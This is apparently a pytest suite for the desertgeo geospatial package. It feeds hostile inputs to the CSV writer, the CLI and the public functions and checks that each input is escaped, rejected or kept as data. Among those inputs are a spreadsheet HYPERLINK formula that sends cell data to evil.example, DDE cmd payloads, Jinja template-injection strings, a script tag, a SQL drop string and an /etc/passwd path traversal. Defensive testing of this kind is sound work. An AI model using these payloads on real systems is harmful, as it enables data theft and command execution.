"""A catalogue of hostile inputs across the public API and the command line.

Each case is one input an attacker, a broken export or a tired analyst could hand to
desertgeo, and what it must get: a clear error of desertgeo's classes (each also a
built-in), a flagged row, or data written and read back as data. Command-line cases
check exit code 2 and exactly one line on stderr, with no traceback.

For modules other than writers, output files and the CLI, the cases record today's
behaviour where it is already right; inputs that still fail there are listed in the
security issue's note for their owners.
"""

from __future__ import annotations

import csv
import math
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely

import desertgeo as dg
from desertgeo import CRSError, DatasetNotFoundError, InputError, datasets
from desertgeo.cli import main
from desertgeo.events import read_events, write_events

DATA = Path(__file__).parent / "data"
EVENTS_CSV = DATA / "events_generic.csv"
SRC = Path(__file__).resolve().parents[1] / "src"


@pytest.fixture(scope="module")
def ev() -> gpd.GeoDataFrame:
    return datasets.load("seed_events")


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A scratch folder with the hostile files the cases use; the CLI runs in it."""
    monkeypatch.setenv("DESERTGEO_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "afile").write_text("a file, not a folder\n")
    (tmp_path / "latin1.csv").write_bytes("place\nQaryat \xe9\n".encode("latin-1"))
    (tmp_path / "utf16.csv").write_bytes("place\nPalmyra\n".encode("utf-16"))
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "junk.geojson").write_bytes(os.urandom(256))
    (tmp_path / "names.csv").write_text("place\nPalmyra\n")
    (tmp_path / "adir.csv").mkdir()
    return tmp_path


# --------------------------------------------------------------------------- write_events
def _frame(notes: list[Any], **extra: Any) -> gpd.GeoDataFrame:
    n = len(notes)
    return gpd.GeoDataFrame(
        {"event_id": [f"h{i}" for i in range(n)], "notes": notes, **extra},
        geometry=shapely.points(np.full(n, 38.3), np.full(n, 34.6)),
        crs=4326,
    )


def _csv_cells(path: Path, column: str = "notes") -> list[str]:
    csv.field_size_limit(1 << 24)
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[column] for row in csv.DictReader(handle)]


WRITE_TEXT_CASES = {
    "formula-equals": ('=HYPERLINK("http://evil.example/?"&A1,"open")', "'"),
    "formula-plus": ("+cmd|' /C calc'!A0", "'"),
    "formula-minus": ("-2+3+cmd|' /C calc'!A0", "'"),
    "formula-at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'"),
    "formula-tab": ("\t=1+1", "'"),
    "formula-cr": ("\r=1+1", "'"),
    "already-quoted-formula": ("'=1+1", "'"),
    "negative-number-text": ("-20", ""),
    "bidi-override": ("\u202eaflahT near Sukhna", ""),
    "jinja-payload": ("{{ cycler.__init__.__globals__.os.getcwd() }}", ""),
    "script-payload": ("<script>alert(1)</script>", ""),
    "megabyte-cell": ("Palmyra " * 131072, ""),
}


@pytest.mark.parametrize("case", sorted(WRITE_TEXT_CASES))
def test_write_events_text_cells(case: str, tmp_path: Path) -> None:
    text, prefix = WRITE_TEXT_CASES[case]
    out = write_events(_frame([text, "calm"]), tmp_path / "ev.csv")
    assert _csv_cells(out) == [prefix + text, "calm"]
    assert len(read_events(out)) == 2
    plain = write_events(_frame([text, "calm"]), tmp_path / "plain.csv", csv_safe=False)
    assert _csv_cells(plain) == [text, "calm"]


def test_write_events_cr_and_lf_inside_cells_keep_rows(tmp_path: Path) -> None:
    notes = ["calm\r=HYPERLINK(1)", "two\nlines", "crlf\r\nmid"]
    out = write_events(_frame(notes), tmp_path / "ev.csv", csv_safe=False)
    assert _csv_cells(out) == notes
    assert len(read_events(out)) == 3


def test_write_events_formula_column_name(tmp_path: Path) -> None:
    frame = _frame(["x"]).rename(columns={"notes": "=HYPERLINK(1)"})
    out = write_events(frame, tmp_path / "ev.csv")
    assert "'=HYPERLINK(1)" in out.read_text(encoding="utf-8").splitlines()[0]


def test_write_events_numbers_are_never_quoted(tmp_path: Path) -> None:
    frame = _frame(["a", "b"], fatalities=[0, 7], delta=[-20.0, -1e-3])
    out = write_events(frame, tmp_path / "ev.csv")
    assert _csv_cells(out, "delta") == ["-20.0", "-0.001"]


@pytest.mark.parametrize(
    ("case", "target", "error", "message"),
    [
        ("missing-folder", "missing/ev.csv", InputError, "does not exist"),
        ("parent-is-a-file", "afile/ev.csv", InputError, "is not a folder"),
        ("target-is-a-folder", "adir.csv", InputError, "it is a folder"),
        ("unknown-extension", "ev.xlsx", InputError, "cannot tell the format"),
    ],
)
def test_write_events_bad_targets(
    ev: gpd.GeoDataFrame, work: Path, case: str, target: str, error: type, message: str
) -> None:
    before = sorted(p.name for p in work.iterdir())
    with pytest.raises(error, match=message):
        write_events(ev, work / target)
    assert sorted(p.name for p in work.iterdir()) == before


def test_write_events_unknown_format(ev: gpd.GeoDataFrame, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="unknown events format"):
        write_events(ev, tmp_path / "ev.csv", format="xlsx")


def test_write_events_not_a_geodataframe(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="must be a GeoDataFrame"):
        write_events(pd.DataFrame({"a": [1]}), tmp_path / "ev.csv")  # type: ignore[arg-type]


def test_write_events_no_crs(tmp_path: Path) -> None:
    frame = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(38, 34)])
    with pytest.raises(CRSError, match="no CRS"):
        write_events(frame, tmp_path / "ev.csv")


def test_write_events_symlinked_target_is_replaced_not_followed(
    ev: gpd.GeoDataFrame, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("do not overwrite me")
    link = tmp_path / "ev.csv"
    link.symlink_to(victim)
    write_events(ev, link)
    assert victim.read_text() == "do not overwrite me"
    assert not link.is_symlink()
    assert len(read_events(link)) == len(ev)


def test_write_events_empty_frame(ev: gpd.GeoDataFrame, tmp_path: Path) -> None:
    out = write_events(ev.iloc[:0], tmp_path / "ev.csv")
    assert len(read_events(out)) == 0


def test_write_events_missing_geometries_keep_their_rows(
    ev: gpd.GeoDataFrame, tmp_path: Path
) -> None:
    frame = ev.copy()
    frame.loc[frame.index[:3], "geometry"] = None
    back = read_events(write_events(frame, tmp_path / "ev.csv"))
    assert len(back) == len(ev)
    assert (back["status"].iloc[:3] == "invalid").all()


def test_write_events_projected_input_is_written_in_degrees(
    ev: gpd.GeoDataFrame, tmp_path: Path
) -> None:
    out = write_events(ev.to_crs(3857), tmp_path / "ev.csv")
    lon = [float(v) for v in _csv_cells(out, "lon") if v]
    assert lon
    assert all(30 < v < 50 for v in lon)


# --------------------------------------------------------------------------- command line
def _one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    """The one error line on stderr (progress lines such as 'downloading ...' aside)."""
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.startswith("desertgeo:")]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) <= 2, err
    assert lines[0].startswith("desertgeo: error: ")
    return lines[0]


E = str(EVENTS_CSV)
CLI_CASES: dict[str, tuple[list[str], str]] = {
    "geocode -o missing folder": (["geocode", "Palmyra", "-o", "nodir/x.csv"], "does not exist"),
    "geocode -o parent is a file": (["geocode", "Palmyra", "-o", "afile/x.csv"], "not a folder"),
    "geocode -o is a folder": (["geocode", "Palmyra", "-o", "adir.csv"], "it is a folder"),
    "geocode -o bad suffix": (["geocode", "Palmyra", "-o", "x.xlsx"], "use a .csv"),
    "geocode -i missing": (["geocode", "-i", "nope.csv"], "no such file"),
    "geocode -i folder": (["geocode", "-i", "adir.csv"], "is a folder"),
    "geocode -i latin-1": (["geocode", "-i", "latin1.csv"], "not UTF-8"),
    "geocode -i utf-16": (["geocode", "-i", "utf16.csv"], "not UTF-8"),
    "geocode -i empty": (["geocode", "-i", "empty.csv"], "not a readable CSV"),
    "geocode -i wrong column": (["geocode", "-i", "names.csv", "-c", "x"], "not a column"),
    "geocode --gazetteer missing": (
        ["geocode", "Palmyra", "--gazetteer", "nope.csv"],
        "no such file",
    ),
    "cluster events missing": (["cluster", "nope.csv", "-o", "c.geojson"], "no such file"),
    "cluster -o missing folder": (["cluster", E, "-o", "nodir/c.geojson"], "does not exist"),
    "cluster -o bad suffix": (["cluster", E, "-o", "c.csv"], "use a .geojson"),
    "cluster --labels-out missing folder": (
        ["cluster", E, "-o", "c.geojson", "--labels-out", "nodir/l.csv"],
        "does not exist",
    ),
    "hotspots -o missing folder": (["hotspots", E, "-o", "nodir/h.geojson"], "does not exist"),
    "hotspots events is a folder": (["hotspots", "adir.csv", "-o", "h.geojson"], "is a folder"),
    "distance -o parent is a file": (
        ["distance", E, "--to", "border", "-o", "afile/d.csv"],
        "not a folder",
    ),
    "distance --within garbage": (["distance", E, "--to", "border", "--within", "10,abc"], "abc"),
    "distance --within negative": (["distance", E, "--to", "border", "--within", "-5"], "-5"),
    "distance --to site without name": (["distance", E, "--to", "site"], "needs a name"),
    "datasets unknown name": (["datasets", "../../etc/passwd"], "unknown dataset"),
    "gazetteer fetch ftp url": (
        ["gazetteer", "fetch", "--url", "ftp://x.example/SY.zip"],
        "must start with",
    ),
    "gazetteer fetch bad country": (["gazetteer", "fetch", "Syria"], "ISO 3166-1"),
    "gazetteer fetch --timeout 0": (
        ["gazetteer", "fetch", "--url", "file:///nope.zip", "--timeout", "0"],
        "positive",
    ),
    "gazetteer fetch missing local file": (
        ["gazetteer", "fetch", "--url", "file:///nonexistent/SY.zip"],
        "could not download",
    ),
    "gazetteer fetch a file that is no zip": (
        ["gazetteer", "fetch", "--url", "file://{work}/names.csv"],
        "not a zip file",
    ),
    "gazetteer add undecodable": (["gazetteer", "add", "latin1.csv"], "not UTF-8"),
    "gazetteer remove unknown": (["gazetteer", "remove", "nope.csv"], "no gazetteer extension"),
    "events read missing": (["events", "read", "nope.csv"], "nope.csv"),
    "events read latin-1": (["events", "read", "latin1.csv"], "latin1.csv|UTF-8"),
    "events read -o missing folder": (["events", "read", E, "-o", "nodir/e.csv"], "not exist"),
    "zones assign --zones missing": (["zones", "assign", E, "--zones", "nope.geojson"], "no such"),
    "zones assign --zones junk": (["zones", "assign", E, "--zones", "junk.geojson"], "junk"),
    "zones list --zones folder": (["zones", "list", "--zones", "adir.csv"], "is a folder"),
    "map -o parent is a file": (["map", E, "-o", "afile/m.html"], "afile"),
}


@pytest.mark.parametrize("case", sorted(CLI_CASES))
def test_cli_hostile_input_is_exit_2_and_one_line(
    case: str, work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv, message = CLI_CASES[case]
    argv = [a.replace("{work}", str(work)) for a in argv]
    before = sorted(p.name for p in work.iterdir())
    assert main(argv) == 2
    line = _one_error_line(capsys)
    assert re.search(message, line), line
    # nothing was created next to the inputs (no partial output, no temporary file)
    after = [n for n in sorted(p.name for p in work.iterdir()) if n != "home"]
    assert after == before


@pytest.mark.cli
def test_cli_hostile_input_through_a_real_process(work: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    res = subprocess.run(
        [sys.executable, "-m", "desertgeo", "geocode", "Palmyra", "-o", "nodir/x.csv"],
        capture_output=True,
        text=True,
        env=env,
        cwd=work,
        timeout=300,
    )
    assert res.returncode == 2
    assert res.stderr.strip().splitlines() == [
        "desertgeo: error: --output: cannot write nodir/x.csv: the folder nodir does not "
        "exist; create it first (mkdir -p) or choose another output path"
    ]


def test_cli_os_refusing_to_write_is_one_line(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A read-only mount (EROFS) or a folder without write permission (EACCES)."""
    import tempfile

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    assert main(["geocode", "Palmyra", "-o", "x.csv"]) == 2
    assert "Permission denied in the folder" in _one_error_line(capsys)
    assert not (work / "x.csv").exists()


# --------------------------------------------------------------------------- other modules
@dataclass(frozen=True)
class Case:
    """A hostile input to a public function and the property its result must have."""

    call: Callable[[gpd.GeoDataFrame], Any]
    check: Callable[[Any], bool] | type[BaseException]


def _status(frame: Any) -> list[str]:
    return list(frame["status"])


def _pt(n: int = 1, lon: float = 38.3, lat: float = 34.6) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"event_id": [f"p{i}" for i in range(n)], "date": ["2023-02-17"] * n},
        geometry=shapely.points(np.full(n, lon), np.full(n, lat)),
        crs=4326,
    )


def _no_crs(_: Any) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"event_id": ["a"]}, geometry=[shapely.Point(38, 34)])


def _geocode_unresolved(query: Any) -> Case:
    return Case(lambda _: dg.geocode([query]), lambda r: _status(r) == ["unresolved"])


def _geocode_not_ok(query: str) -> Case:
    return Case(lambda _: dg.geocode([query]), lambda r: len(r) == 1 and _status(r) != ["ok"])


def _no_geom(events: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    out = events.copy()
    out.loc[out.index[0], "geometry"] = None
    return out


OTHER_CASES: dict[str, Case] = {
    # geocoder: hostile names are data, never matched by accident, never code
    "geocode empty string": _geocode_unresolved(""),
    "geocode blanks": _geocode_unresolved("   \t "),
    "geocode None": _geocode_unresolved(None),
    "geocode NaN": _geocode_unresolved(math.nan),
    "geocode a number": _geocode_unresolved(5),
    "geocode jinja payload": _geocode_unresolved("{{7*7}}"),
    "geocode script payload": _geocode_unresolved("<script>alert(1)</script>"),
    "geocode formula payload": _geocode_unresolved('=HYPERLINK("x")'),
    "geocode sql-ish": _geocode_unresolved("Palmyra; DROP TABLE events"),
    "geocode 100k characters": _geocode_unresolved("x" * 100_000),
    "geocode 4k Arabic characters": _geocode_unresolved("تدمر" * 1000),
    "geocode bidi override": _geocode_unresolved("\u202eaflahT"),
    "geocode emoji": _geocode_unresolved("🔥🔥"),
    "geocode digits": _geocode_unresolved("12345"),
    "geocode -20 km offset": _geocode_not_ok("-20 km east of Palmyra"),
    "geocode 1e20 km offset": _geocode_not_ok("1e20 km east of Palmyra"),
    "geocode nan km offset": _geocode_not_ok("nan km east of Palmyra"),
    "geocode offset without a place": _geocode_not_ok("20 km east of"),
    "geocode empty list": Case(lambda _: dg.geocode([]), lambda r: len(r) == 0),
    # text: garbage in, no events and no crash
    "events_from_text empty": Case(lambda _: dg.events_from_text(""), lambda r: len(r) == 0),
    "events_from_text control bytes": Case(
        lambda _: dg.events_from_text("\x00\x01\x02\x1b[31m"), lambda r: len(r) == 0
    ),
    "events_from_text jinja in text": Case(
        lambda _: dg.events_from_text("{{7*7}} killed in Palmyra", published="2023-02-17"),
        lambda r: 49 not in set(r["fatalities"].dropna()),
    ),
    # validation: bad rows are flagged, never dropped
    "validate negative fatalities": Case(
        lambda _: dg.validate_events(_pt().assign(fatalities=[-5])),
        lambda r: _status(r) == ["warning"] and pd.isna(r["fatalities"].iloc[0]),
    ),
    "validate unparseable date": Case(
        lambda _: dg.validate_events(_pt().assign(date=["not a date"])),
        lambda r: _status(r) == ["invalid"],
    ),
    "validate duplicate ids": Case(
        lambda _: dg.validate_events(_pt(2).assign(event_id=["a", "a"])),
        lambda r: _status(r) == ["ok", "warning"],
    ),
    "validate lon 999": Case(
        lambda _: dg.validate_events(_pt(lon=999)), lambda r: _status(r) == ["invalid"]
    ),
    "validate null island": Case(
        lambda _: dg.validate_events(_pt(lon=0, lat=0)), lambda r: _status(r) == ["invalid"]
    ),
    "validate polygon geometry": Case(
        lambda _: dg.validate_events(
            gpd.GeoDataFrame(
                {"event_id": ["a"], "date": ["2023-01-01"]},
                geometry=[shapely.box(38, 34, 39, 35)],
                crs=4326,
            )
        ),
        lambda r: _status(r) == ["warning"],
    ),
    "validate no CRS": Case(lambda _: dg.validate_events(_no_crs(_)), CRSError),
    "validate empty frame": Case(
        lambda _: dg.validate_events(_pt().iloc[:0]), lambda r: len(r) == 0
    ),
    # read_events: paths that are not event files
    "read_events a folder": Case(lambda _: read_events(Path.cwd()), InputError),
    "read_events missing file": Case(lambda _: read_events("/nonexistent/ev.csv"), OSError),
    # distances
    "distance_to unknown target": Case(lambda e: dg.distance_to(e, "atlantis"), InputError),
    "distance_to unknown site": Case(lambda e: dg.distance_to(e, "site:nowhere"), InputError),
    "distance_to no CRS": Case(lambda _: dg.distance_to(_no_crs(_), "border"), CRSError),
    "distance_to empty frame": Case(
        lambda e: dg.distance_to(e.iloc[:0], "border"), lambda r: len(r) == 0
    ),
    "distance_to missing geometry": Case(
        lambda e: dg.distance_to(_no_geom(e), "border"),
        lambda r: bool(r.iloc[0].isna().all()) and len(r) == 11,
    ),
    "distance_stats unknown column": Case(lambda e: dg.distance_stats(e, "nope"), InputError),
    # clustering parameters
    "cluster eps_km -1": Case(lambda e: dg.cluster(e, "dbscan", eps_km=-1), InputError),
    "cluster eps_km 0": Case(lambda e: dg.cluster(e, "dbscan", eps_km=0), InputError),
    "cluster eps_km NaN": Case(lambda e: dg.cluster(e, "dbscan", eps_km=math.nan), InputError),
    "cluster min_events 0": Case(lambda e: dg.cluster(e, "dbscan", min_events=0), InputError),
    "cluster unknown method": Case(lambda e: dg.cluster(e, "evil"), InputError),
    "cluster st-dbscan without time": Case(lambda e: dg.cluster(e, "st-dbscan"), InputError),
    "cluster eps_km 1e9": Case(
        lambda e: dg.cluster(e, "dbscan", eps_km=1e9), lambda r: len(r) == 11
    ),
    # hotspot grid parameters
    "hotspots cell_km 0": Case(lambda e: dg.hotspots(e, 0), InputError),
    "hotspots cell_km -5": Case(lambda e: dg.hotspots(e, -5), InputError),
    "hotspots cell_km NaN": Case(lambda e: dg.hotspots(e, math.nan), InputError),
    "hotspots unknown weight": Case(lambda e: dg.hotspots(e, 10, weight="nope"), InputError),
    # shipped data and the gazetteer
    "datasets.load path traversal": Case(
        lambda _: datasets.load("../../etc/passwd"), DatasetNotFoundError
    ),
    "Gazetteer.best empty": Case(lambda _: dg.Gazetteer.default().best(""), lambda r: r is None),
    "find_places template text": Case(
        lambda _: dg.find_places("{{7*7}} near {% raw %}"), lambda r: len(r) == 0
    ),
}


@pytest.mark.parametrize("case", sorted(OTHER_CASES))
def test_public_api_hostile_input(case: str, ev: gpd.GeoDataFrame) -> None:
    spec = OTHER_CASES[case]
    if isinstance(spec.check, type):
        with pytest.raises(spec.check):
            spec.call(ev)
    else:
        assert spec.check(spec.call(ev))


def test_write_events_gpkg_and_geojson_keep_text_as_is(tmp_path: Path) -> None:
    notes = ["=1+1", "{{7*7}}", "<b>x</b>", "\u2028line"]
    for suffix in ("geojson", "gpkg"):
        back = read_events(write_events(_frame(notes), tmp_path / f"ev.{suffix}"))
        assert list(back["notes"]) == notes
